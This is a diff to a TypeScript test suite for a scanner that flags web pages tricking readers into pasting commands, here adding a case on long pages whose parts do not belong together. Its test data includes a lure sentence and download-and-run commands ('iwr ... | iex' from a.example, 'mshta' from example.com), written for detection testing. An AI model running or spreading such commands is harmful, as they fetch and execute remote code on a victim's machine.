@@ -5,6 +5,7 @@ import { suite, test } from 'node:test'
 import { useInspector } from '#inspect/testing/inspector.ts'
 import { writeZip } from '#inspect/testing/zip-writer.ts'
 import { ARTICLE_MIN } from './forms.ts'
+import { WHOLE_MAX } from './lures.ts'
 
 const { inspect } = useInspector()
 
@@ -217,6 +218,18 @@ suite('a page that makes the reader run a command', () => {
     for (const tags of ['<Style TargetType="Button"/>', '<Button Name="a"/>', '<div>'])
       harmless(Buffer.from(`# Settings of the window\n$form = @"\n${tags}\n"@\n${text}`))
   })
+
+  test('but not in a long page whose parts do not belong together', () => {
+    const text = 'Open PowerShell, verify the error and fix it: press Win+R, paste'
+    const command = 'powershell -c "iwr https://a.example/x.ps1 | iex"'
+    const withBetween = (between: string): Buffer =>
+      Buffer.from(`<html><body><p>${text}</p>${between}<p>${command}</p></body></html>`)
+    const chapter = 'Words of another chapter. '.repeat(WHOLE_MAX / 26)
+    has(withBetween(chapter.slice(0, 2_000)), 'Html.CommandCopy')
+    harmless(withBetween(chapter))
+    has(withBetween(`<p style="display:none">${chapter}</p>`), 'Html.CommandCopy')
+  })
+
   test('but not a page that warns of it', () => {
     const page = `<html><body><h1>Fake captchas</h1>${LURE}<code>mshta https://example.com/v</code>Never run such a command.</body></html>`
     harmless(Buffer.from(page))
